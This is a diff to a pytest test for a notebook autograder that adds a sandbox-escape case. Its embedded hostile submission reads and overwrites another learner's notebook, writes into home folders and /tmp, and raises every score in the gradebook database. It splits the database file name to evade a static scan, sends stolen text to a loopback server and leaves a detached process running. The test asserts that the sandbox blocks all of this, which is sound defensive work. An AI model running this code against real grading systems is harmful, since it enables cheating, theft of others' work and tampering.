@@ -2,9 +2,11 @@
 
 Every case starts from a released exercise filled in with the course's solutions (full marks,
 ``autograder.synthetic``), then breaks one thing. Cases rotate over every chapter. The whole
-class is graded by one ``grade-all --jobs 2`` run; each case must get exactly its expected
-score, the honest learners theirs, the batch must finish in bounded time, and the gradebook
-must hold exactly the graded submissions.
+class is graded by one ``grade-all --jobs 2`` run, in the sandbox (the CLI's default); each
+case must get exactly its expected score, the honest learners theirs, the batch must finish
+in bounded time, and the gradebook must hold exactly the graded submissions. One case tries
+to reach out of its sandbox (the home folders, another learner's notebook, the class's
+database, a server on the loopback, a process left behind): nothing outside may change.
 """
 
 from __future__ import annotations
@@ -15,14 +17,19 @@ import json
 import subprocess
 import sys
 import time
+import uuid
+from dataclasses import dataclass, field
 from pathlib import Path
 
 import nbformat
 import pytest
 from conftest import CHAPTERS
+from loopback import recording_server
+from nbgrader.api import Gradebook
 
 from autograder import synthetic
 from autograder.chapters import EXERCISES
+from autograder.gradebook import COURSE_ID
 
 pytestmark = pytest.mark.pipeline
 
@@ -146,6 +153,48 @@ if os.fork() == 0:
     os._exit(0)
 '''
 
+# Reaches out of its own folder, as far as the grading user could: writes into the home
+# folders, reads another learner's notebook in the same batch (and shows what it read in its
+# own output, which its feedback page shows), raises every score in the class's database and
+# adds a learner (its name spelled so that the static scan does not flag it), calls a server
+# on the loopback, and leaves a process in a session of its own that writes a moment later.
+_BREAKS_OUT = '''
+import os
+import pathlib
+import socket
+import sqlite3
+import subprocess
+import sys
+
+found = ""
+try:
+    found = pathlib.Path({other!r}).read_text()
+    pathlib.Path({other!r}).write_text("overwritten by another learner")
+except OSError:
+    pass
+print(found[-3000:])
+for folder in [pathlib.Path.home(), os.environ["HOME"], "/root", {home!r}, "/tmp", {leaks!r}]:
+    try:
+        pathlib.Path(folder, {marker!r}).write_text(found or "nothing found")
+    except OSError:
+        pass
+try:
+    database = sqlite3.connect("file:" + {folder!r} + "/grade" + "book.db?mode=rw", uri=True)
+    database.execute("update grade set manual_score = 100")
+    database.execute("insert into student (id) values ('planted-by-a-learner')")
+    database.commit()
+except sqlite3.Error:
+    pass
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(found[-100:].encode())
+except OSError:
+    pass
+later = "import pathlib, time; time.sleep(1); pathlib.Path({leaks!r}, 'later').touch(); " \\
+    "time.sleep(3600)"
+subprocess.Popen([sys.executable, "-c", later, "{escapee}"], start_new_session=True)
+'''
+
+
 _OBFUSCATED_PATCH = '''
 import importlib
 checks = importlib.import_module("autogr" + "ader.checks.ch01")
@@ -155,13 +204,51 @@ for name in dir(checks):
 '''
 
 
-def cases() -> dict[str, tuple[str, nbformat.NotebookNode | bytes, float | None]]:
+@dataclass
+class Outside:
+    """What a submission must not reach, and where its attempts would show."""
+
+    folder: Path  # the class: uploads, gradebook, feedback, state
+    home: Path  # the grading user's own home folder
+    leaks: Path  # a folder of the host, named to the notebook, where it writes what it got
+    port: int  # a server on the host's loopback
+    connections: list[str]  # who connected to it
+    marker: str = field(default_factory=lambda: f"kv-course-escape-{uuid.uuid4().hex[:12]}")
+    secret: str = field(default_factory=lambda: f"kv-course-secret-{uuid.uuid4().hex[:12]}")
+    other_bytes: bytes = b""  # the other learner's file as handed in
+
+    @property
+    def other(self) -> Path:
+        """The other learner's notebook the escaping one goes for."""
+        return self.folder / "uploads" / "honest-01" / f"{BY_NUMBER['01'].name}.ipynb"
+
+    def marked(self) -> list[Path]:
+        """Every place outside the sandbox the escaping notebook writes its marker."""
+        return [folder / self.marker for folder in (self.home, Path("/root"), Path("/tmp"),
+                                                    self.leaks)]
+
+
+def _with_secret(notebook: nbformat.NotebookNode, secret: str) -> nbformat.NotebookNode:
+    notebook.cells.append(nbformat.v4.new_markdown_cell(f"Only I know this: {secret}"))
+    return notebook
+
+
+def _breaks_out(outside: Outside) -> nbformat.NotebookNode:
+    code = _BREAKS_OUT.format(other=str(outside.other), home=str(outside.home),
+                              leaks=str(outside.leaks), marker=outside.marker,
+                              folder=str(outside.folder), port=outside.port,
+                              escapee=ESCAPE_MARKER)
+    return _edited("01", lambda nb: nb.cells.insert(3, nbformat.v4.new_code_cell(code)))
+
+
+def cases(outside: Outside) -> dict[str, tuple[str, nbformat.NotebookNode | bytes, float | None]]:
     """learner -> (file name, contents, expected score; None: refused with an error line)."""
     f = {number: full_marks(number) for number in BY_NUMBER}
     name = {number: f"{chapter.name}.ipynb" for number, chapter in BY_NUMBER.items()}
     # honest learners in the chapters hostile cases share most (every chapter's solution is
-    # graded on its own in tests/test_grading.py)
+    # graded on its own in tests/test_grading.py); the first keeps a secret in its notebook
     honest = {f"honest-{n}": (name[n], solved(n), f[n]) for n in ("01", "04", "06", "08")}
+    honest["honest-01"] = (name["01"], _with_secret(solved("01"), outside.secret), f["01"])
     hostile = {
         "endless-loop": (name["01"], broken("01", "while True:\n    pass\n"), f["01"] - 3),
         "long-sleep": (name["02"], broken("02", "import time\ntime.sleep(3600)\n"),
@@ -201,6 +288,7 @@ def cases() -> dict[str, tuple[str, nbformat.NotebookNode | bytes, float | None]
         "wrong-chapter": (name["02"], solved("01"), None),
         "own-session": (name["01"], _edited("01", lambda nb: nb.cells.insert(
             3, nbformat.v4.new_code_cell(_ESCAPES))), f["01"]),
+        "breaks-out": (name["01"], _breaks_out(outside), f["01"]),
         "fifty-megabytes": (name["08"], _huge("08"), f["08"]),
         "corrupt-json": (name["03"], b'{"cells": [', None),
         "empty-file": (name["04"], b"", None),
@@ -209,10 +297,21 @@ def cases() -> dict[str, tuple[str, nbformat.NotebookNode | bytes, float | None]
 
 
 @pytest.fixture(scope="module")
-def graded(tmp_path_factory):
+def outside(tmp_path_factory):
     folder = tmp_path_factory.mktemp("class")
+    (folder / "leaks").mkdir()
+    with recording_server() as (port, connections):
+        reach = Outside(folder, Path.home(), folder / "leaks", port, connections)
+        yield reach
+    for path in reach.marked():  # where the sandbox failed: leave no marker behind
+        path.unlink(missing_ok=True)
+
+
+@pytest.fixture(scope="module")
+def graded(outside):
+    folder = outside.folder
     expected = {}
-    for learner, (file_name, contents, score) in cases().items():
+    for learner, (file_name, contents, score) in cases(outside).items():
         path = folder / "uploads" / learner / file_name
         path.parent.mkdir(parents=True)
         if isinstance(contents, bytes):
@@ -220,6 +319,7 @@ def graded(tmp_path_factory):
         else:
             nbformat.write(contents, path)
         expected[learner] = score
+    outside.other_bytes = outside.other.read_bytes()
     started = time.monotonic()
     done = subprocess.run(
         [sys.executable, "-m", "autograder", "grade-all", "uploads", "--jobs", "2",
@@ -287,3 +387,35 @@ def test_nothing_a_submission_started_is_still_running(graded):
         if ESCAPE_MARKER.encode() in command:
             running.append(command.replace(b"\0", b" ").decode())
     assert running == []
+
+
+def test_a_notebook_reaches_nothing_outside_its_sandbox(graded, outside):
+    folder, _, expected, _ = graded
+    # its own TODOs were still graded, in full
+    results = {r["learner"]: r for r in json.loads((folder / "results.json").read_text())}
+    assert results["breaks-out"]["score"] == expected["breaks-out"]
+    # no marker in the grading user's home, in /root or the host's /tmp, nothing in the
+    # folder it was told of, not even from the process it left behind
+    assert not [path for path in outside.marked() if path.exists()]
+    assert list(outside.leaks.iterdir()) == []
+    # the other learner's notebook is as handed in, and its secret was not read: not in the
+    # escaping learner's feedback page, where its own output shows
+    assert outside.other.read_bytes() == outside.other_bytes
+    chapter = BY_NUMBER["01"].name
+    page = (folder / "feedback" / "breaks-out" / chapter / f"{chapter}.html").read_text()
+    assert "kv_bytes_per_token" in page and outside.secret not in page
+    assert outside.secret not in json.dumps(results["breaks-out"])
+    # the server on the loopback saw no connection
+    assert outside.connections == []
+
+
+def test_the_class_database_holds_exactly_the_graded_scores(graded):
+    """Read with nbgrader's own API: every graded learner's score as expected, and no learner
+    but those handed in."""
+    folder, _, expected, _ = graded
+    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}", COURSE_ID) as book:
+        scores = {s.student_id: s.score for a in book.assignments for s in a.submissions}
+        learners = {student.id for student in book.students}
+    assert scores == {learner: score for learner, score in expected.items()
+                      if score is not None}
+    assert learners == set(expected)
